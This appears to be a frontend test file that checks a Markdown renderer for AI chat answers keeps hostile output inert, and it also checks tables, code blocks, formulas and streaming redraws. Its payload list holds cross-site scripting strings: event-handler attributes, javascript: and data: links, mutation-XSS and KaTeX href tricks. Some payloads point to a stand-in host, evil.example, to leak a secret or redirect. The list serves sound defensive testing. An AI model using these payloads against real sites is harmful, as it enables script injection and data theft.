import { cleanup, render, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import '../../i18n';
import { Notices } from '../../app/notices';
import { Markdown } from './markdown';

// What a hostile model might write. None of it may run, load, send or reach out of its answer.
const hostile = [
  '<script>window.hit=1</script>',
  '<img src=x onerror="window.hit=1">',
  '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<form action="https://evil.example"><input name=a><button>x</button></form>',
  '<a href="javascript:window.hit=1">x</a>',
  '<style>*{display:none}</style>',
  '<object data="data:text/html,<script>window.hit=1</script>"></object><embed src="https://evil.example">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href=https://evil.example>',
  '<div style="position:fixed;inset:0" class="signin" id="root">x</div>',
  '<hearth-math data-tex="\\href{javascript:window.hit=1}{x}"></hearth-math>',
  '[x](javascript:window.hit=1)',
  '[x](JaVaScRiPt:window.hit=1)',
  '[x](&#106;avascript:window.hit=1)',
  '[x](data:text/html,<script>window.hit=1</script>)',
  '[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x)',
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:window.hit=1)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<https://evil.example/"onmouseover="window.hit=1>',
  '`<img src=x onerror=window.hit=1>`',
  '```html" onload="window.hit=1\n<script>window.hit=1</script>\n```',
  '|a|\n|-|\n|<img src=x onerror=window.hit=1>|',
  '$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlStyle{color:red}{x}$',
  '$$\n\\def\\a{\\a\\a}\\a\n$$',
  '[ref]: javascript:window.hit=1\n\n[ref]',
  '<details open ontoggle=window.hit=1>x</details>',
  '<video><source onerror="window.hit=1"></video><audio src=x onerror=window.hit=1></audio>',
  '&lt;script&gt;window.hit=1&lt;/script&gt;',
  '<scr<script>ipt>window.hit=1</scr</script>ipt>',
];

const shown = (text: string) =>
  render(
    <Notices>
      <Markdown text={text} />
    </Notices>,
  ).container;

afterEach(cleanup);

describe('hostile answers', () => {
  it.each(hostile)('render inert: %s', async (text) => {
    const box = shown(text);
    await new Promise((r) => setTimeout(r, 0));
    expect((window as unknown as { hit?: number }).hit).toBeUndefined();
    for (const el of box.querySelectorAll('script,iframe,object,embed,form,input,base,meta,link,style,video,audio,source,details'))
      expect.unreachable(`${el.tagName} was made`);
    for (const el of box.querySelectorAll('*')) {
      for (const a of el.attributes) {
        expect(a.name.startsWith('on'), `${el.tagName} ${a.name}`).toBe(false);
        if (a.name === 'href') expect(a.value).toMatch(/^(https?:|mailto:)/);
        if (a.name === 'src') expect(a.value).toMatch(/^data:image\/(png|jpeg|gif|webp)/);
      }
      expect(el.id).not.toBe('root');
      expect(el.className).not.toBe('signin');
    }
    for (const a of box.querySelectorAll('a')) expect([a.target, a.rel]).toEqual(['_blank', 'noopener noreferrer nofollow']);
  });
});

describe('answers', () => {
  it('have tables, code to copy, and links that open elsewhere', () => {
    const box = shown('| a | b |\n|---|---|\n| 1 | 2 |\n\n```go\nfunc main() {}\n```\n\n[x](https://example.com)');
    expect(box.querySelectorAll('table td').length).toBe(2);
    expect(box.querySelector('.code-head')?.textContent).toContain('go');
    expect(box.querySelector('.code pre')?.textContent).toBe('func main() {}');
    expect(box.querySelector('.code button')).toBeTruthy();
    expect(box.querySelector('a')?.getAttribute('href')).toBe('https://example.com');
  });

  it('show HTML as the text it is', () => {
    expect(shown('<svg onload=window.hit=1></svg> &lt;i&gt; a & b').textContent?.trim()).toBe('<svg onload=window.hit=1></svg> <i> a & b');
    expect(shown('a <b>bold</b> claim').textContent).toContain('<b>bold</b>');
  });

  it('set formulas, and take money for money', async () => {
    const box = shown('cost $5 and $6, but $x^2$ and\n\n$$\ny = \\frac{1}{2}\n$$');
    await waitFor(() => expect(box.querySelectorAll('.katex').length).toBe(2), { timeout: 10_000 });
    expect(box.textContent).toContain('cost $5 and $6');
  });

  it('redraw only their last block as they grow', () => {
    const page = (text: string) => (
      <Notices>
        <Markdown text={text} growing />
      </Notices>
    );
    const { container, rerender } = render(page('one\n\ntwo'));
    const first = container.querySelector('.markdown')?.firstElementChild;
    const inner = first?.firstElementChild;
    rerender(page('one\n\ntwo three\n\nfour\n'));
    expect(container.querySelector('.markdown')?.firstElementChild).toBe(first);
    expect(first?.firstElementChild).toBe(inner);
    expect(container.querySelector('.markdown')?.children.length).toBe(3);
  });
});
